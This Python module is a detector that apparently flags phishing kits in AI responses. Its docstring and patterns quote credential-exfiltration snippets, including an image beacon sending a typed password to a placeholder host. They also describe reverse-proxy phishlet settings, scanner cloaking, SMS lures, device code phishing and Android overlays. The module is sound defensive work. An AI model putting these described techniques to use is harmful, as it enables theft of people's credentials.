"""OUT-PHISHING-KIT: a sign-in page that captures what visitors type.

What it catches
    A password field whose submission is stored or forwarded (PHP writing `$_POST['password']`
    to a file or mail, a handler appending the posted password to a file), dressed as a sign-in
    page or a well-known brand's (its title, or redirecting to the real one afterwards) or given
    a pretext to ask for a password again (a page titled as a firmware or security update,
    "confirm your Wi-Fi network password"); or a brand's sign-in page whose own script reads the
    typed password, or sends it to a chat bot or a bare address, or copies it off as an image
    request or a beacon while the real sign-in goes on (`new Image().src = 'https://...?d=' +
    btoa(u + ':' + p)`, `navigator.sendBeacon(...)`: a sign-in portal's page altered to
    capture what is typed, T1056.003) (also a page that turns itself
    into one while its tab is in the background: `document.title = 'Gmail'`, "sign in again to
    continue to Gmail", `location.replace('https://mail.google.com/...')` once the password is
    read); a password form posting to a form-collector service, a bot or a bare address; an
    evilginx-style reverse-proxy phishlet, or a web server set up the same way in front of a
    well-known sign-in host (nginx's `proxy_pass https://login.microsoftonline.com` with that
    host's name rewritten to the server's own in the pages or the cookies: `sub_filter`,
    `proxy_cookie_domain`; Apache's `ProxyPass`, Caddy's `reverse_proxy`). In any server
    language (PHP, Flask, Express, Go, Rails, Sinatra and Rack's `params['password']`): a
    handler that reads the posted password and, without ever hashing or verifying it, mails
    it, posts it to a Telegram bot or webhook, appends it to a file or sends it to another
    server, then redirects to the real site; a sign-in handler that mails the typed passwords to
    a mailbox written into it (`mail('me@...')`, `sendmail(FROM, "me@...", ...)`,
    `addAddress('me@...')`), whoever's site it is. Also the mailer half of a kit: mail sent with
    a well-known brand's address or name in its `From` (`formataddr(("Microsoft 365", addr))`,
    PHPMailer's `setFrom($user, 'Microsoft 365 Security')`, `new MailAddress(addr, "PayPal")`),
    or a mail client forged (an Outlook or Exchange `X-Mailer` on mail a script sends), or, in
    mail whose envelope the code writes itself (raw SMTP, `RCPT TO:<...>`, to the recipients'
    own server), a From address at a domain the code fills in (`"IT Helpdesk <it@$domain>"`):
    the recipients' own organisation impersonated.
    In a document: a macro (VBA) that asks for a password in a prompt of its own (`InputBox`, a
    UserForm with a `PasswordChar`, a script-host window it draws with a password box:
    `InternetExplorer.Application` given `<input type=password>`) worded or titled as
    Microsoft, Outlook or Office ("Your Outlook session has expired"), in a macro that sends
    something out (an `XMLHTTP` POST, an Outlook `MailItem`, a chat webhook) (`macros.py`).
    A page's cloak: security vendors' scanners matched together (`preg_match('/urlscan|
    virustotal|proofpoint|mimecast/i', $ua)`, a list of their names) and shown a decoy, a 404
    or an exit, refused when the page also asks for a password or poses as a brand or when what
    the scanners are shown is made to mislead them (a decoy, a parked page, a 404) or when the
    page also turns away visitors from hosting providers and proxies (an IP lookup's `hosting`
    or `proxy` flag, cloud providers named in the visitor's reverse DNS), part of a kit
    otherwise; the list may be turned away by a call on the lines after it, or by the
    rewrite rule its conditions guard (`RewriteCond %{HTTP_USER_AGENT} (urlscan|...)` then
    `RewriteRule ^ https://brand.example/ [R=302]` or `[F]`: sent to the genuine site or
    forbidden, both misleading the scanner).
    Tabnabbing: a page whose handler for its tab being left (`visibilitychange` with
    `document.hidden`, `blur`) retitles the tab and changes its icon, beside a brand's sign-in
    (`document.title = 'Gmail'`, a password field): the visitor returns to a tab they think
    they know and signs in again.
    Over messaging: a chat bot whose replies ask its users for a login code, a 2FA code, a
    password or a seed phrase ("A code was sent to your Telegram app. Enter it here", "Send us
    your recovery phrase to verify"); and lures sent down a list (an SMS API, Twilio, a Telegram
    or Discord send, for each number of `numbers.csv` or each line a shell loop reads and makes
    the recipient, `while read -r n; do ... To="$n" ...; done < list.csv`): text posing as a
    bank or a service ("your account is temporarily locked. Verify now: {link}", "free Nitro",
    a courier's small redelivery or customs fee to pay at a link, a parcel said to be held or
    undelivered where the text asks for a payment, card details or a sign-in, links to a host
    borrowing a courier's name (`https://usps-redelivery.example`) or speaks as the courier
    (`DHL: ...`) with a link elsewhere than the courier's own site) with its link,
    including lures kept in a list of templates (`messaging.py`) and lures URL-encoded into a
    gateway's query (`/send?to=$n&text=Your+package+is+held...`, `encoded_texts.py`) or handed
    as an option to a program that is also handed the list (`dm_spread.py --tokens tokens.txt
    --message "is this you in this video?? https://..."`). Device
    code phishing: a
    program that starts the OAuth device code flow, puts the user code into a message as a
    meeting's, an invitation's or a voicemail's code and polls the token endpoint with the
    device code, so whoever enters it signs in for the sender. A mail's button linking to a
    host that borrows a brand's name (`https://docusign-review.secure-envelope.example/...`),
    made out to each recipient (`?e={{EMAIL}}`, a token made for each to tell who clicked:
    `"https://docusign-review.example/e/#{token}"`) or beside a brand's lure ("Action
    required"). A web server relaying an identity provider's sign-in (`proxy_pass https://login.
    microsoftonline.com`) and writing its name over in pages and cookies (`sub_filter`,
    `proxy_cookie_domain`). Part of one: another site's page framed all but transparent
    over the page's own (`opacity: 0.0001`), where the visitor's click lands (clickjacking,
    part of whatever the request asks the click for: an account, a like, a consent);
    another site's form submitted by script into a frame no one sees, or a fetch to another
    site carrying the visitor's cookies with its answer made opaque (cross-site request
    forgery: an account's email changed in the visitor's name; `forged.py`).
    On Android: a window laid over the app the user opens (its package watched through an
    accessibility service's window events or usage stats, `addView` with an overlay type),
    whose typed password or PIN is handed with an address written into the code to a call
    (`post("https://.../b", user, pass)`): a banking trojan's overlay (`overlays.py`).

Why it is a redline (RL-CREDENTIAL)
    Phishing kits steal credentials from people who believe they are signing in.

Example
    A "Sign in to your Microsoft account" page posting to `login.php`, which appends the
    password to `creds.txt` and redirects to `login.microsoftonline.com`.

Allowed instead
    A login form for one's own application that verifies a password hash (`password_verify`,
    `bcrypt.compare`, `check_password_hash`), a registration handler that stores a hash, a
    decoy sign-in that keeps only a keyed hash of what was tried (`hash_hmac('sha256', $pw,
    $key)`),
    phishing-awareness training material that does not collect anything, newsletters and
    password-reset mail sent from one's own domain.
    A payment provider's or a sign-in's auto-submitting form that leaves for the other site in
    the open (no hidden frame), a fetch to another site without the visitor's cookies.
    A site's bot filter turning away crawlers by generic words (`bot|crawl|spider`), a report
    that counts scanner visits by vendor, advice to report a page to urlscan or Netcraft, a
    confirmation page shown to mail link scanners so they do not use up one-time links.
    A chat or mail client that puts its unread count in its own tab's title and icon while the
    tab is in the background.
    A macro that asks for a password to unlock its own protected sheet and uses it there, or
    that mails the user's own report to a colleague. A tool of one's own signing in with the
    device code flow, printing the sign-in page and the code for its user.
    An opted-in SMS reminder sender of one's own service; a shop's own failed-delivery notice
    to its customers, linking to its own site (naming the carrier is no disguise); a community
    bot that welcomes, moderates or verifies with a captcha or a button; a backend that sends
    (not asks for) a one-time code; a phishing-awareness simulation named as such that counts
    clicks; an explanation of these scams or a rule that flags them. A brand's own links in its mail
    (`https://account.docusign.com/...`), a mailing of one's own linking to one's own site.
    A screen-time app covering the apps a parent limited, a password manager's fill prompt over
    a saved app's login that fills the entry in place.
"""

from __future__ import annotations

import re

from redline.redlines.capabilities import Capabilities
from redline.redlines.capabilities import Capability as Cap
from redline.redlines.registry import IN_A_RESPONSE, Detection, detector, one_piece, supported

_PASSWORD_SINKS = (Cap.WEBHOOK, Cap.MAIL_SEND, Cap.FILE_APPEND, Cap.NET_SEND, Cap.RECORD_STORE)
_FILLED_DOMAIN = re.compile(r"@(?:\$\{?|\{)\w*dom", re.I)
"""A sender address whose domain is a variable of the code."""
_MISLED = re.compile(
    r"\b(?:decoy|fake|parked|benign|harmless|clean_page|40[34])\b"
    r"|https?://[^\s\]]+\s+\[[^\]\n]*\bR\b|\[(?:[^\]\n]*,)?\s*[FG]\b",
    re.I,
)
"""What a cloak shows the scanners it turns away: a page made to mislead them (a rewrite's
403 or 410, `[F]`, `[G]`), or another site (a rewrite's redirect away: the genuine brand's page
in place of the kit's)."""
_FIXED_MAILBOX = re.compile(r"""['"][^'"\s@$]+@""")
"""A mailbox written as a literal in the mail call (`mail('me@example.net', ...)`)."""


def _shipped_password(found: Capabilities) -> Detection | None:
    """A posted password that goes somewhere other than a hash check: the kit's collector."""
    if Cap.POSTED_PASSWORD not in found or Cap.PASSWORD_VERIFY in found:
        return None
    sinks = [c for c in _PASSWORD_SINKS if c in found]
    if not sinks:
        return None
    core = (Cap.POSTED_PASSWORD, *sinks, Cap.BRAND_LURE)
    # A toy sign-up that appends plaintext passwords to a file is bad practice, not a kit; the
    # kit also dresses up as someone else or ships to a bot.
    if Cap.BRAND_LURE in found or Cap.WEBHOOK in found:
        return supported(found, 0.85, core, "a sign-in handler that ships the typed password away")
    if any(_FIXED_MAILBOX.search(hit.text) for hit in found.hits.get(Cap.MAIL_SEND, ())):
        # Mail to a mailbox written into the handler reaches its author, not the person signing
        # in (a sign-up's confirmation goes to the address the visitor gave).
        mailed = (Cap.POSTED_PASSWORD, Cap.MAIL_SEND)
        return supported(found, 0.8, mailed, "typed passwords mailed to a fixed mailbox")
    return supported(found, 0.5, core, "a posted password mailed or sent on, unchecked")


def _spoof_stands(found: Capabilities) -> bool:
    """Whether the spoofed sender counts: a brand's name or address always; an address at a
    domain the code fills in only when the mail's envelope is written by hand (raw SMTP to
    the recipients' own server), as an application's mail for its tenants is relayed."""
    if any(not _FILLED_DOMAIN.search(h.text) for h in found.hits.get(Cap.SPOOFED_SENDER, ())):
        return True
    return any("RCPT" in h.text.upper() for h in found.hits.get(Cap.MAIL_SEND, ()))


def _kept_unhashed(found: Capabilities) -> bool:
    """Whether some captured credential is kept as typed: a record that hashes the password
    on its way in (`write(email + generate_password_hash(pw))`) is a sign-up's store."""
    hashes = found.hits.get(Cap.PASSWORD_VERIFY, [])
    return any(
        not any(capture.start <= h.start < capture.end for h in hashes)
        for capture in found.hits.get(Cap.CREDENTIAL_CAPTURE, [])
    )


# -- messaging phishing: begin --
_MESSAGE_SENDS = (Cap.TEXT_SEND, Cap.NET_SEND, Cap.WEBHOOK, Cap.MAIL_SEND)


def _messaging_phish(found: Capabilities) -> Detection | None:
    """A bot asking its users for what signs them in; or a bank's or a service's lure sent to
    every number or member of a list."""
    if found.has_all(Cap.DEVICE_CODE_POLL, Cap.DEVICE_CODE_LURE):
        # the device code flow started for someone else: they sign in on the genuine page with
        # the code the lure calls a meeting's, and the tokens go to whoever polls for them
        lured = (Cap.DEVICE_CODE_LURE, Cap.DEVICE_CODE_POLL)
        return supported(
            found, 0.85, lured, "a device sign-in code sent as a lure (device code phishing)"
        )
    if Cap.BOT_CODE_ASK in found:
        asked = (Cap.BOT_CODE_ASK, Cap.TEXT_SEND, Cap.BRAND_LURE)
        return supported(found, 0.85, asked, "a bot that asks its users for login codes")
    sends = [c for c in _MESSAGE_SENDS if c in found]
    if (
        found.has_all(Cap.LURE_MESSAGE, Cap.BULK_RECIPIENTS)
        and sends
        and Cap.AWARENESS_DRILL not in found
    ):
        blast = (Cap.LURE_MESSAGE, Cap.BULK_RECIPIENTS, *sends)
        return supported(found, 0.85, blast, "a bank's or a service's lure sent down a list")
    return None


# -- messaging phishing: end --


LOOKALIKE_SCORE = 0.8
"""A look-alike link made out to each recipient, or beside a brand's lure."""
_TOKEN_NAMES = (
    r"(?:(?:e_?mail|recipient|user|token|rid|uid|tracking)\w*|tok\b"
    r"|to(?:_?(?:e_?mail|addr|name|user)\w*)?\b)"
)
"""Names of a recipient or of a token made for each (`$email`, `{tok}`, `$token_id`, `$rid`); of
`to`, only `to` alone or a recipient's address or name (`$to`, `$to_emails`, `$toAddr2`), not a
word that begins with it (`$today`, `$total`, `$tokyo`)."""
_RECIPIENT_TOKEN = re.compile(
    rf"\{{\{{\s*\w+\s*\}}\}}|\{{\s*{_TOKEN_NAMES}\s*\}}|%\w*e_?mail\w*%|\${_TOKEN_NAMES}",
    re.I,
)
"""A mail merge's place for each recipient (`{{EMAIL}}`, `{email}`, `%EMAIL%`) in a link, or
the token made for each to tell who clicked (`#{token}`, `${rid}`, PHP's and Perl's `$token`)."""


def _lookalike_mail(found: Capabilities) -> Detection | None:
    """A link to a host borrowing a brand's name, made out to each recipient of a mailing or
    beside a brand's lure: a phishing mail's button."""
    if Cap.LOOKALIKE_LINK not in found or Cap.AWARENESS_DRILL in found:
        return None
    merged = any(_RECIPIENT_TOKEN.search(hit.text) for hit in found.hits[Cap.LOOKALIKE_LINK])
    if merged or Cap.BRAND_LURE in found:
        core = (Cap.LOOKALIKE_LINK, Cap.BRAND_LURE)
        return supported(
            found,
            LOOKALIKE_SCORE,
            core,
            "a brand's look-alike link made out to each recipient or lure",
        )
    return supported(found, 0.45, (Cap.LOOKALIKE_LINK,), Cap.LOOKALIKE_LINK.value)


def _cloaked(found: Capabilities) -> Detection | None:
    """A page that turns security vendors' scanners away: a kit's cloak, whole when the page
    also asks for a password or poses as a brand, part of one otherwise."""
    if Cap.SCANNER_CLOAK not in found:
        return None
    dressed = [c for c in (Cap.PASSWORD_FIELD, Cap.POSTED_PASSWORD, Cap.BRAND_LURE) if c in found]
    if dressed:
        core = (Cap.SCANNER_CLOAK, *dressed)
        return supported(found, 0.85, core, "a sign-in page hidden from security scanners")
    # Scanners shown a page made to mislead them (a decoy, a parked domain, a 404) rather than
    # an interstitial that keeps them from using a one-time link up: the page hides itself.
    # Visitors from hosting providers and proxies turned away too: the scanners hidden from
    # whatever address they come from, not only by their names.
    misled = any(_MISLED.search(hit.text) for hit in found.hits[Cap.SCANNER_CLOAK]) or (
        Cap.HOSTING_TURNED_AWAY in found
    )
    return supported(found, 0.8 if misled else 0.5, (Cap.SCANNER_CLOAK,), Cap.SCANNER_CLOAK.value)


# A swap's hit begins at its event (`visibilitychange`) and reaches up to 600 + 400 characters
# on to the new title and icon (`Capability.TAB_SWAP`, about 1,040 at most); the brand the new
# title names stands inside it or just after its `document.title =` (fixtures: 82-165 characters
# from the event; a password field 443): that longest reach, with room for the title's value.
_SWAP_REACH = 1200
"""How far (characters) a tab's change may stand from the brand or password field it shows."""
_OVERLAY_REACH = 2000
"""How far (characters) the window laid over another app may stand from the capture of what is
typed into it: the overlay's class, its layout and its send are written in one answer."""
_BEACON = re.compile(r"\bnew\s+Image\b|\.src\s*=|\bsendBeacon\b", re.I)
"""A send made as an image request or a beacon: a page's way to report, never to sign in."""


def _framed(found: Capabilities) -> Detection | None:
    """Another site's page framed all but transparent over the page's own: the visitor's click
    lands on the framed site's button (`framed.py`). A clickjacking test of one's own site is
    built the same way, so the page is part of an attack, for the request to tell."""
    if Cap.FRAMED_PAGE not in found:
        return None
    return supported(found, 0.45, (Cap.FRAMED_PAGE,), "another site's page framed, transparent")


def _forged(found: Capabilities) -> Detection | None:
    """A request sent to another site in the visitor's name with its answer hidden: a form
    submitted by script into a frame no one sees, or a fetch carrying the visitor's cookies
    with an opaque answer (`forged.py`). A bug report's proof of concept is built the same
    way, so the page is part of an account takeover, for the request to tell."""
    return one_piece(found, Cap.FORGED_REQUEST, IN_A_RESPONSE)


def _beaconed(found: Capabilities) -> bool:
    """Whether a typed password read by a page's script is followed closely by an image
    request or a beacon (`new Image().src = 'https://...?d=' + btoa(u + ':' + p)`): the
    password copied off to a collector while the real sign-in goes on (ATT&CK T1056.003)."""
    own = found.hits.get(Cap.OWN_SITE_REQUEST, ())
    return any(
        0 <= sent.start - read.start <= 300
        and _BEACON.search(sent.text) is not None
        # (a beacon to the page's own site by a relative path reports to its owner)
        and not any(abs(path.start - sent.start) <= 40 for path in own)
        for sent in found.hits.get(Cap.NET_SEND, ())
        for read in found.hits[Cap.PASSWORD_READ]
    )


def _clicks_hijacked(found: Capabilities) -> bool:
    """Whether the page frames another site's page all but transparent (`framed.py`): the
    visitor's click is taken for whatever the framed page does (a like, a follow, a consent,
    a deletion), so the part crosses the redline the request names, not only credentials."""
    return Cap.FRAMED_PAGE in found


@detector("OUT-PHISHING-KIT", redline="RL-CREDENTIAL", crosses_any=_clicks_hijacked)
def phishing_kit(found: Capabilities) -> Detection | None:
    """Captured credentials + (password field or brand lure); or a handler that ships a posted
    password away (mail, chat bot, file, another server) without ever checking it; or mail sent
    as a well-known brand."""
    # -- messaging phishing: begin --
    messaged = _messaging_phish(found)
    if messaged is not None:
        return messaged
    # -- messaging phishing: end --
    if Cap.PASSWORD_READ in found and (
        Cap.WEBHOOK in found
        or found.near(Cap.PASSWORD_READ, Cap.UNVETTED_SOURCE, 300)
        or _beaconed(found)
    ):
        # A page's own script sending the typed password to a chat bot or a bare address.
        beacon = (Cap.PASSWORD_READ, Cap.WEBHOOK, Cap.UNVETTED_SOURCE, Cap.PASSWORD_FIELD)
        return supported(found, 0.85, beacon, "a page that sends the typed password away")
    if found.near(Cap.OVERLAY_ON_APP, Cap.CREDENTIAL_CAPTURE, _OVERLAY_REACH):
        # A window laid over the app in front whose typed password goes to an address written
        # into the code: a login screen over a banking app (`overlays.py`).
        laid = (Cap.OVERLAY_ON_APP, Cap.CREDENTIAL_CAPTURE)
        return supported(found, 0.85, laid, "a login laid over another app, its password sent")
    if Cap.MACRO_PASSWORD_PROMPT in found:
        # An Office macro's own prompt posing as Outlook, in a macro that sends (`macros.py`).
        prompt = (Cap.MACRO_PASSWORD_PROMPT,)
        return supported(
            found, 0.85, prompt, "a macro's password prompt posing as Microsoft or Outlook"
        )
    if found.distinct(Cap.PHISHLET) >= 2:
        return supported(found, 0.85, (Cap.PHISHLET,), "a reverse-proxy phishing configuration")
    if Cap.PASSWORD_FIELD in found and (
        Cap.WEBHOOK in found
        or (Cap.EXTERNAL_FORM in found and found.near(Cap.EXTERNAL_FORM, Cap.UNVETTED_SOURCE, 200))
    ):
        # No real sign-in form posts its password to a form collector, a bot or a bare address.
        collected = (Cap.PASSWORD_FIELD, Cap.EXTERNAL_FORM, Cap.WEBHOOK, Cap.UNVETTED_SOURCE)
        return supported(found, 0.85, collected, "a password form that posts to a collector")
    shipped = _shipped_password(found)
    if shipped is not None:
        return shipped
    if found.has_all(Cap.MAIL_SEND, Cap.SPOOFED_SENDER) and _spoof_stands(found):
        spoofed = (Cap.MAIL_SEND, Cap.SPOOFED_SENDER, Cap.BRAND_LURE)
        return supported(found, 0.85, spoofed, "mail sent in someone else's name")
    if (
        Cap.PASSWORD_READ in found
        and Cap.BRAND_LURE in found
        and Cap.CREDENTIAL_CAPTURE not in found
    ):
        # A brand's sign-in page whose script takes the typed password somewhere.
        lure = (Cap.PASSWORD_READ, Cap.BRAND_LURE, Cap.PASSWORD_FIELD)
        return supported(
            found, 0.85, lure, "a brand's sign-in page whose script reads the password"
        )
    if found.has_all(Cap.EXTERNAL_FORM, Cap.PASSWORD_FIELD, Cap.BRAND_LURE):
        posted = (Cap.EXTERNAL_FORM, Cap.PASSWORD_FIELD, Cap.BRAND_LURE)
        return supported(found, 0.85, posted, "a brand's sign-in form posting to another site")
    dressed = [c for c in (Cap.BRAND_LURE, Cap.PASSWORD_FIELD) if c in found]
    if dressed and any(found.near(Cap.TAB_SWAP, c, _SWAP_REACH) for c in dressed):
        # The tab left open retitled, its icon changed and a brand's sign-in shown in it while
        # the visitor looks elsewhere: they come back to "their" mail asking them to sign in.
        swapped = (Cap.TAB_SWAP, *dressed)
        return supported(found, 0.8, swapped, "a tab that turns into a sign-in page while left")
    lookalike = _lookalike_mail(found)
    if lookalike is not None and lookalike.score >= LOOKALIKE_SCORE:
        return lookalike
    if not _kept_unhashed(found):
        return _cloaked(found) or lookalike or _framed(found) or _forged(found)
    context = [c for c in (Cap.PASSWORD_FIELD, Cap.BRAND_LURE) if c in found]
    if context:
        core = (Cap.CREDENTIAL_CAPTURE, *context)
        return supported(
            found, 0.95 if len(context) == 2 else 0.8, core, "sign-in page that keeps the passwords"
        )
    return supported(found, 0.5, (Cap.CREDENTIAL_CAPTURE,), Cap.CREDENTIAL_CAPTURE.value)
